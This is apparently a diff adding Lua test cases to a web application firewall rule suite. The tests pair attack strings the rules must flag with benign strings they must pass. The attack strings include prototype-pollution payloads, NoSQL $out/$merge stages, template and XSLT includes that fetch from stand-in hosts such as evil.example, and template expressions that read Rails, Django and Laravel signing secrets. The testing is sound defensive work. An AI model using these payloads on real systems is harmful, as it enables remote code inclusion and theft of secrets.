@@ -48,4 +48,37 @@ describe("edge.waf.rules hundred-and-eighty-third round on", function()
         caught_by(130100, { "/api/users/static../app/settings.py", "/search/assets..\\web.config" })
         clean({ "/docs/v1.2/intro", "wait.. /home is fine", "see chapter 2../3 of the book" })
     end)
+
+    it("prototype pollution: 'constructor' or 'prototype' written inside itself for a filter that strips it once",
+        function()
+        caught_by(135110, { "constconstructorructor[prototype][isAdmin]=true", "a.protoprototypetype.b" })
+        clean({ "the constructor and the prototype", "constructors", "prototypes of the new menu" })
+    end)
+
+    it("NoSQL: an aggregation stage that writes over a collection, as a key", function()
+        caught_by(142290, { "$out", '{"$merge": "users"}' })
+        clean({ "checked $out of pocket", "merge $50 out" })
+    end)
+
+    it("remote includes by template and markup: Smarty's include of a URL, XSLT, JSTL, JSP; ImageMagick's coders",
+        function()
+        caught_by(134110, { "{include file='http://203.0.113.80/t.tpl'}", '{include file="https://evil.example/t.tpl"}' })
+        caught_by(131260, { '<xsl:import href="https://evil.example/x.xsl"/>', "<c:import url='http://evil.example/x'/>",
+            '<jsp:include page="http://evil.example/x.jsp"/>', "url:http://evil.example/x.svg", "msl:/tmp/x.msl",
+            "ephemeral:/var/www/x" })
+        clean({ '{include file="header.tpl"}', '<xsl:import href="common.xsl"/>', "url: https://example.com",
+            "ephemeral: true", "the url:port form" })
+    end)
+
+    it("a web framework's signing secret read by code, in an interpolation or a template", function()
+        caught_by(136140, { "#{Rails.application.credentials.secret_key_base}",
+            "Rails.application.secrets.secret_key_base", "{{ settings.SECRET_KEY }}", "{{ current_app.config['SECRET_KEY'] }}",
+            "{{ config('app.key') }}" })
+        clean({ "our Rails application is slow", "the secret key rotation is Friday", "app settings page" })
+    end)
+
+    it("Node.js: a value nesting brackets thirty-two deep (a parser's recursion, not data)", function()
+        caught_by(135120, { string.rep("[", 40) .. string.rep("]", 40), "a=" .. string.rep("[ ", 33) })
+        clean({ "[[1, 2], [3, 4]]", string.rep("[x]", 12) })
+    end)
 end)
